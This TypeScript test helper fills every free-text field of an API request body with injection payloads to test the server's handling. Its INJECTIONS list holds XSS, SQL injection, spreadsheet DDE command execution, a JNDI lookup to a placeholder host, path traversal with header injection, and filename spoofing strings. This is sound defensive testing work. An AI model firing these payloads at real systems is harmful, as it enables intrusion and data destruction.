import type { z } from 'zod';
import { LOCALES } from '../../src/contract/fields';

/** Texts that do something where a text is taken for something else: by a page, a statement, a sheet, a template, a log. */
export const INJECTIONS = [
  `<img src=x onerror="alert(1)">`,
  `"><svg/onload=alert(1)>`,
  `</script><script>alert(1)</script>`,
  'javascript:alert(1)//${alert(1)}`',
  `'; drop table sys_user; --`,
  `' or '1'='1' /* \\' */`,
  `$1 :name ?? %s %(x)s \\x00 \\u0000`,
  `%_\\%__`,
  `=HYPERLINK("http://a.b","x")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3@SUM(1)`,
  `@SUM(1+1)*cmd`,
  `\uff1d1+1`,
  `{{constructor.constructor('x')()}}`,
  `$t(records:form.save) {{name}}`,
  `\${jndi:ldap://a.b/c}`,
  `../../etc/passwd\r\nSet-Cookie: a=b`,
  `a\tb\nc "d", 'e';\\`,
  `{"a":[null,"__proto__"]}`,
  `__proto__`,
  `null`,
  `\u202etxt.exe\u200b\u2066`,
  `Ünï 漢字 қазақ 👩‍🔧`,
] as const;

type Inner = z.core.$ZodTypeDef & Record<string, unknown>;
const defOf = (schema: z.ZodType) => schema.def as unknown as Inner;

/** What stands below `optional`, `nullable`, `default` and the like. */
function bare(schema: z.ZodType): z.ZodType {
  const { innerType, in: before } = defOf(schema) as { innerType?: z.ZodType; in?: z.ZodType };
  const inner = innerType ?? before;
  return inner ? bare(inner) : schema;
}

/** How long a text may be that may say anything; undefined where a format or a check of its own decides. */
function freeText(schema: z.ZodType): number | undefined {
  const { type, format, checks = [] } = defOf(schema) as { type: string; format?: string; checks?: z.core.$ZodCheck[] };
  if (type !== 'string' || format !== undefined) return undefined;
  const isLimited = checks.some(({ _zod }) => ['string_format', 'custom'].includes(_zod.def.check));
  return isLimited ? undefined : ((schema as z.ZodString).maxLength ?? 10_000);
}

/**
 * A body in which every field that takes any text says `text`, as much of it as fits; other fields are as in `base`.
 * @param kept paths whose value has to be known to the server: `appId`, `quietHours.timezone`
 */
export function injected(schema: z.ZodType, base: unknown, text: string, kept: readonly string[], path = ''): unknown {
  if (kept.includes(path)) return base;
  const plain = bare(schema);
  const most = freeText(plain);
  if (most !== undefined) return text.slice(0, most).trim();
  const below = (inner: z.ZodType, value: unknown, name: string) =>
    injected(inner, value, text, kept, path === '' ? name : `${path}.${name}`);
  const { type } = defOf(plain);
  if (type === 'array') return injectedList(plain, base, below);
  // What may be there and is not stays away.
  if (base === undefined || base === null) return base;
  if (type === 'record') return injectedWords(plain, below);
  return type === 'object' ? injectedMembers(plain, base as Record<string, unknown>, below) : base;
}

type Below = (inner: z.ZodType, value: unknown, name: string) => unknown;

function injectedList(list: z.ZodType, base: unknown, below: Below): unknown {
  const { element } = defOf(list) as unknown as { element: z.ZodType };
  return freeText(bare(element)) === undefined ? base : [below(element, '', '0')];
}

/** A text in all languages. */
function injectedWords(words: z.ZodType, below: Below): unknown {
  const { valueType } = defOf(words) as unknown as { valueType: z.ZodType };
  return Object.fromEntries(LOCALES.map((locale) => [locale, below(valueType, '', locale)]));
}

function injectedMembers(of: z.ZodType, base: Record<string, unknown>, below: Below): unknown {
  const { shape } = defOf(of) as unknown as { shape: Record<string, z.ZodType> };
  const filled = Object.entries(shape).map(([name, inner]) => [name, below(inner, base[name], name)]);
  return Object.fromEntries(filled.filter(([, value]) => value !== undefined));
}

/** Paths of the fields that {@link injected} fills. */
export function freeTexts(schema: z.ZodType, base: unknown, kept: readonly string[]): string[] {
  const mark = 'injected';
  const walk = (value: unknown, path: string): string[] => {
    if (typeof value === 'string') return mark.startsWith(value) && value !== '' ? [path] : [];
    if (typeof value !== 'object' || value === null) return [];
    return Object.entries(value).flatMap(([name, inner]) => walk(inner, path === '' ? name : `${path}.${name}`));
  };
  return walk(injected(schema, base, mark, kept), '');
}
